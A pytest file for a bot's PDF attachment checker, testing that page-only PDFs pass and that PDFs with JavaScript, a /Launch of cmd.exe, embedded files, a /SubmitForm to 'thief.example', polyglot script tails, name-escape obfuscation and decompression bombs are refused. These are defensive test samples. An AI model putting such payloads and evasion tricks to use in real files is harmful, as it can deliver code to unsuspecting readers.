"""A PDF is taken where it is pages alone, and refused where anything in it could act, however that is written."""

import time
import zlib

import pytest

from bot.attachments.document import Document
from bot.errors import DocumentRefused
from tests.attachments.documents import packed, pdf

SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def test_a_pdf_of_pages_is_kept_as_it_was_sent() -> None:
    sent = pdf()
    kept = Document.read(sent)
    assert (kept.body, kept.media_type) == (sent, "application/pdf")


@pytest.mark.parametrize(
    "sent",
    [
        pdf(packed(b"10 0 << /Type /Page /Rotate 0 >>")),
        pdf(packed(b"10 0 << /Rotate 0 >>", b"[/ASCII85Decode /FlateDecode]")),
        pdf(catalog=b"/OpenAction [3 0 R /XYZ null null 0]"),
        pdf(catalog=b"/OpenAction[3 0 R/Fit]"),
        pdf(
            b"8 0 obj\n<< /Type /XRef /W [1 2 1] /DecodeParms << /Predictor 12 /Columns 4 >> /Length 0 >>\n"
            b"stream\n\nendstream\nendobj\n"
        ),
        pdf(b"8 0 obj\n<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://shop.example) >> >>\nendobj\n"),
        pdf(head=b"%PDF-1.4\r\n"),
    ],
    ids=["packed objects", "as text", "opens at a place", "opens to fit", "a table", "a link to a page", "older"],
)
def test_what_usual_programs_write_is_taken(sent: bytes) -> None:
    assert Document.read(sent).body == sent


@pytest.mark.parametrize(
    ("sent", "why"),
    [
        (pdf(b"8 0 obj\n" + SCRIPT + b"\nendobj\n"), "/JavaScript"),
        (pdf(b"8 0 obj\n" + SCRIPT.replace(b"JavaScript", b"J#61vaScript") + b"\nendobj\n"), "/JavaScript"),
        (pdf(packed(b"10 0 " + SCRIPT)), "/JavaScript"),
        (pdf(packed(b"10 0 " + SCRIPT.replace(b"Script", b"#53cript"))), "/JavaScript"),
        (pdf(packed(b"10 0 " + SCRIPT, b"[/ASCII85Decode /FlateDecode]")), "/JavaScript"),
        (pdf(packed(b"10 0 " + SCRIPT, b"[/ASCIIHexDecode /FlateDecode]")), "/JavaScript"),
        (pdf(packed(zlib.compress(b"10 0 " + SCRIPT), b"[/FlateDecode /FlateDecode]")), "/JavaScript"),
        (pdf(b"8 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"), "/Launch"),
        (pdf(b"8 0 obj\n<< /Type /EmbeddedFile /Length 0 >>\nendobj\n"), "/EmbeddedFile"),
        (pdf(catalog=b"/Names << /EmbeddedFiles 8 0 R >>"), "/EmbeddedFiles"),
        (pdf(b"8 0 obj\n<< /S /SubmitForm /F (https://thief.example) >>\nendobj\n"), "/SubmitForm"),
        (pdf(b"8 0 obj\n<< /S /GoToE >>\nendobj\n"), "/GoToE"),
        (pdf(b"8 0 obj\n<< /XFA 9 0 R >>\nendobj\n"), "/XFA"),
        (pdf(catalog=b"/OpenAction << /S /GoTo >>"), "/OpenAction"),
        (pdf(catalog=b"/OpenAction 8 0 R"), "/OpenAction"),
        (pdf(catalog=b"/Open#41ction 8 0 R"), "/OpenAction"),
        (pdf(b"trailer\n<< /Encrypt 8 0 R >>\n"), "/Encrypt"),
        (pdf(packed(b"10 0 x", b"/LZWDecode")), "/LZWDecode"),
        (pdf(packed(b"10 0 x", more=b"/DecodeParms << /Predictor 12 >>")), "/DecodeParms"),
        (pdf(packed(b"10 0 x", more=b"/DecodeParms 7 0 R")), "/DecodeParms"),
        (pdf(packed(b"10 0 x", more=b"/DecodeParms 7 0 R (\n1 0 obj <<) ")), "not written as a PDF"),
        (pdf(tail=b"PK\x05\x06" + b"\0" * 18), "something else"),
        (pdf(tail=b"<script>alert(1)</script>"), "something else"),
        (pdf(head=b"%PDF-1.7\n%<html><script>alert(1)</script>\n"), "something else"),
        (b"\n" + pdf(), "something else"),
        (b"GIF89a" + pdf(), "something else"),
        (pdf(head=b"%PDF-9.9\n"), "not whole"),
        (pdf()[:-60], "not whole"),
        (b"%PDF-1.7\n%%EOF\n", "no pages"),
        (b"%PDF-1.7 no", "not whole"),
    ],
)
def test_what_could_act_or_hide_something_is_refused(sent: bytes, why: str) -> None:
    with pytest.raises(DocumentRefused, match="accepted: a PDF of pages alone") as refused:
        Document.read(sent)
    assert why in str(refused.value)


def test_a_small_pdf_that_unfolds_into_much_is_refused_soon() -> None:
    one = pdf(packed(b"\0" * 400_000_000))
    several = pdf(b"".join(packed(b"\0" * 30_000_000, number=n) for n in range(20, 26)))
    begun = time.process_time()  # of this process alone: a second, without what packing takes
    for sent in (one, several):
        with pytest.raises(DocumentRefused, match="too much"):
            Document.read(sent)
    assert time.process_time() - begun < 10


def test_a_pdf_of_very_many_parts_is_refused() -> None:
    many = b"".join(b"%d 0 obj\n<< >>\nstream\nx\nendstream\nendobj\n" % n for n in range(20, 5_100))
    with pytest.raises(DocumentRefused, match="too many parts"):
        Document.read(pdf(many))
